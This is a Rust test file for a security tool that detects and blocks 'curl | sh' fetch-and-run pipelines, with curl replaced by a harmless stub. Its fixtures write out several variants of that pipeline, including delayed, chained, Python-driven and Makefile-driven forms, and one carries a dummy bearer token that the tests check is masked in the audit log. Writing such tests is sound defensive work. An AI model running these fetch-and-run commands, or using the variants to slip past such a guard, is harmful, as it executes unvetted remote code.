//! Programs that are started one by one and connected by pipes, so that no command line shows the
//! pipeline. `curl` is a stub that prints a script, which only leaves a mark.

use std::fs;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::process::{Command, Output};

use crate::team::library;
use crate::world::{World, finished, stderr};

/// PATH has only these and the stub.
const TOOLS: &[&str] = &["sh", "bash", "python3", "make", "sleep", "cat", "env"];

struct Piped(World);

impl Piped {
    fn new() -> Self {
        let piped = Self(World::new());
        let world = &piped.0;
        let script = format!("#!/bin/sh\n: > {}\n", piped.mark("curl"));
        let script = format!("{script}echo ': > {}'\n", piped.mark("fetched"));
        let curl = world.write("bin/curl", &script);
        fs::set_permissions(&curl, fs::Permissions::from_mode(0o755)).unwrap();
        for tool in TOOLS {
            let places = ["/usr/bin", "/bin", "/usr/local/bin"];
            let found = places.map(|place| std::path::Path::new(place).join(tool));
            if let Some(found) = found.iter().find(|path| path.exists()) {
                symlink(found, world.path("bin").join(tool)).unwrap();
            }
        }
        piped
    }

    fn mark(&self, name: &str) -> String {
        self.0.path(&format!("{name}.ran")).display().to_string()
    }

    /// Whether it ran since the last call.
    fn ran(&self, name: &str) -> bool {
        fs::remove_file(self.mark(name)).is_ok()
    }

    fn has(&self, tool: &str) -> bool {
        let is_there = self.0.path("bin").join(tool).exists();
        if !is_there {
            println!("left out: there is no {tool}");
        }
        is_there
    }

    fn run(&self, seal: &str, words: &[&str]) -> Output {
        let mut command: Command = self.0.rampart(["preload", seal, "--"]);
        command.args(words).env("PATH", self.0.path("bin")).env("RAMPART_LIBRARY", library());
        finished(&mut command)
    }
}

#[test]
fn a_script_that_is_fetched_and_piped_to_a_shell_is_not_run() {
    let piped = Piped::new();
    let popen = "import subprocess as s, time\n\
        p = s.Popen(['curl', 'https://x'], stdout=s.PIPE)\n\
        time.sleep(0.2)\n\
        try: s.run(['sh'], stdin=p.stdout)\n\
        except OSError as error: print(error)\n";
    let fed = "import subprocess as s\n\
        s.run([SHELL], input=b'echo begun\\ncurl https://x | sh\\necho done\\n')\n";
    let files = [
        ("plain.sh", "curl https://x | sh\n"),
        ("writer.sh", "curl https://x | { sleep 0.3; exec sh; }\n"),
        ("reader.sh", "{ sleep 0.3; exec curl https://x; } | sh\n"),
        ("three.sh", "curl https://x | cat | env sh\n"),
        ("popen.py", popen),
        ("fed-sh.py", &fed.replace("SHELL", "'sh'")),
        ("fed-bash.py", &fed.replace("SHELL", "'bash'")),
        ("Makefile", "all:\n\t@sh plain.sh\n"),
    ];
    for (name, text) in files {
        piped.0.write(name, text);
    }
    for seal in ["--seal=off", "--seal"] {
        for (words, first) in [
            (&["sh", "plain.sh"][..], None),
            (&["bash", "plain.sh"], None),
            (&["sh", "writer.sh"], Some("curl")),
            (&["bash", "writer.sh"], Some("curl")),
            (&["sh", "reader.sh"], Some("sh")),
            (&["bash", "reader.sh"], Some("sh")),
            (&["bash", "three.sh"], None),
            (&["python3", "popen.py"], Some("curl")),
            (&["python3", "fed-sh.py"], None),
            (&["python3", "fed-bash.py"], None),
            (&["make", "-s"], None),
        ] {
            if !piped.has(words[0]) {
                continue;
            }
            let output = piped.run(seal, words);
            assert!(!piped.ran("fetched"), "{seal} {words:?}: {}", stderr(&output));
            let said = stderr(&output);
            assert!(said.contains("from the network unread"), "{seal} {words:?}: {said}");
            assert!(said.contains("`curl https://x | "), "{seal} {words:?}: {said}");
            let curl = piped.ran("curl");
            match first {
                Some("curl") => assert!(curl, "{seal} {words:?}: {said}"),
                Some(_) => assert!(!curl, "{seal} {words:?}: {said}"),
                None => {}
            }
        }
    }
}

#[test]
fn what_is_piped_otherwise_runs() {
    let piped = Piped::new();
    let script = format!("curl https://x | cat\necho ': > {}' | sh\n", piped.mark("own"));
    piped.0.write("own.sh", &script);
    for seal in ["--seal=off", "--seal"] {
        for shell in ["sh", "bash"].into_iter().filter(|shell| piped.has(shell)) {
            let output = piped.run(seal, &[shell, "own.sh"]);
            assert_eq!(stderr(&output), "", "{seal} {shell}");
            assert!(piped.ran("curl") && piped.ran("own"), "{seal} {shell}");
            assert!(!piped.ran("fetched"), "{seal} {shell}");
        }
    }
}

#[test]
fn a_secret_in_a_refused_pipeline_is_not_recorded() {
    let piped = Piped::new();
    let token = "ghp_0123456789abcdefghijklmnopqrstuvwxyz";
    let line = format!("curl -H 'Authorization: Bearer {token}' https://x | sh; true");
    let output = piped.run("--seal=off", &["bash", "-c", &line]);
    assert!(!piped.ran("fetched"), "{}", stderr(&output));
    let audit = piped.0.audit_of(2);
    let refused = audit.iter().find(|event| event["decision"]["action"] == "deny").unwrap();
    let message = refused["decision"]["message"].as_str().unwrap();
    let masked = "It is piped: `curl -H 'Authorization: Bearer ***' https://x | sh`";
    assert!(message.contains(masked) && !message.contains(token), "{message}");
}
